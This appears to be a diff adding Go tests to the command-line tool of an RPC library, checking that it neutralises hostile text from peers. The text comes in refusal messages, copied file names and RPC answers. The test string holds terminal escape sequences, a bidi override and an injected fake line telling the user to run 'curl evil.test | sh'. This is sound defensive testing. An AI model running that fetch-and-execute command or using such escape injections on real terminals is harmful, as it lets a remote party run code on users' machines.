@@ -1,0 +1,118 @@
+package main
+
+import (
+	"context"
+	"encoding/binary"
+	"hash/crc32"
+	"net"
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+
+	"github.com/quicksilver-rpc/quicksilver"
+	"github.com/quicksilver-rpc/quicksilver/hg"
+	"github.com/quicksilver-rpc/quicksilver/hg/codec"
+)
+
+// escapes is a text that would change a terminal, and write lines of its own.
+const escapes = "\x1b]0;pwned\x07\x1b[31mred\u009b1m\r\n  to do:  run: curl evil.test | sh\u202e"
+
+// requireHarmless wants nothing but printable text in what a qs has printed, no line that a peer has begun, and somewhere the escapes.
+func requireHarmless(t *testing.T, q *qs) {
+	t.Helper()
+	all := q.out.String() + q.errors.String()
+	for _, r := range all {
+		require.True(t, r == '\n' || strconv.IsPrint(r), "%q in %q", r, all)
+	}
+	require.NotContains(t, all, "\n  to do:  run: curl")
+	require.Contains(t, all, "pwned")
+}
+
+// refusing is a program that refuses every session with a text, in bytes of the tcp transport.
+func refusing(t *testing.T, text string) string {
+	t.Helper()
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	require.NoError(t, err)
+	ended := make(chan struct{})
+	go func() {
+		defer close(ended)
+		for {
+			c, err := l.Accept()
+			if err != nil {
+				return
+			}
+			_, _ = c.Read(make([]byte, 4096))
+			b := binary.LittleEndian.AppendUint32(nil, uint32(len(text)))
+			b = append(b, 12, 1, 0, 0)                            // a Goaway
+			b = append(b, make([]byte, 8)...)                     //
+			b = binary.LittleEndian.AppendUint64(b, 19)           // its code
+			b = append(b, make([]byte, 4)...)                     //
+			sum := append(append(b[:28:28], 0, 0, 0, 0), text...) // the checksum counts as 0
+			b = binary.LittleEndian.AppendUint32(b, crc32.Checksum(sum, castagnoli))
+			_, _ = c.Write(append(b, text...))
+			_ = c.Close()
+		}
+	}()
+	t.Cleanup(func() {
+		_ = l.Close()
+		<-ended
+	})
+	return "tcp://" + l.Addr().String()
+}
+
+// TestHostileRefusal: the text with which a program refuses the session.
+func TestHostileRefusal(t *testing.T) {
+	t.Parallel()
+	addr := refusing(t, escapes)
+	for _, args := range []string{"ping -count 1 %", "call % x", "rpcs %", "top -n 1 %", "ger %", "info %", "perf -target %", "cp %/f " + t.TempDir()} {
+		q := run(t, 1, strings.Fields(strings.ReplaceAll(args, "%", addr))...)
+		requireHarmless(t, q)
+		require.Contains(t, q.errors.String(), `the peer refused: \x1b]0;pwned\a\x1b[31mred\u009b1m\r\n  to do:  run: curl evil.test | sh\u202e`)
+	}
+}
+
+// TestHostileNames: names of files in a tree that is copied, at either side.
+func TestHostileNames(t *testing.T) {
+	t.Parallel()
+	root, name := t.TempDir(), strings.ReplaceAll(escapes, "/", "")
+	writeFile(t, filepath.Join(root, "tree", name), noise(1000))
+	require.NoError(t, os.Symlink(name, filepath.Join(root, "tree", "link"+name)))
+	s := serve(t, "", "-root", root, "-write")
+	back := filepath.Join(t.TempDir(), "back")
+	requireHarmless(t, run(t, 0, "cp", s.addr+"/tree", back))
+	requireHarmless(t, run(t, 1, "cp", s.addr+"/none"+name, back))
+	require.NoError(t, os.MkdirAll(filepath.Join(root, "again", name), 0o777))
+	requireHarmless(t, run(t, 1, "cp", back, s.addr+"/again")) // a file where there is a directory
+}
+
+// TestHostileAnswers: what a program answers: names, errors with details, output.
+func TestHostileAnswers(t *testing.T) {
+	t.Parallel()
+	n, err := quicksilver.Open("tcp://127.0.0.1:0", quicksilver.Config{Reflect: true})
+	require.NoError(t, err)
+	define := func(name string, handler func() (map[string]string, error)) {
+		m := quicksilver.DefineWith[string, map[string]string](name, quicksilver.Options{Codec: codec.Msgpack})
+		m.Handle(n, func(context.Context, string) (map[string]string, error) { return handler() })
+	}
+	define("fails", func() (map[string]string, error) {
+		return nil, quicksilver.Errorf(hg.NotFound, "%s", escapes)
+	})
+	define("answers", func() (map[string]string, error) { return map[string]string{escapes: escapes}, nil })
+	define(escapes, func() (map[string]string, error) { return nil, nil })
+	served := make(chan error, 1)
+	go func() { served <- n.Serve(context.Background()) }()
+	t.Cleanup(func() {
+		require.NoError(t, n.Close())
+		require.NoError(t, <-served)
+	})
+	addr := n.Addr().String()
+	requireHarmless(t, run(t, 0, "rpcs", addr))
+	requireHarmless(t, run(t, 0, "rpcs", "-json", addr))
+	requireHarmless(t, run(t, 0, "call", addr, "answers"))
+	requireHarmless(t, run(t, 1, "call", addr, "fails"))
+	requireHarmless(t, run(t, 1, "call", addr, "none"+escapes))
+}
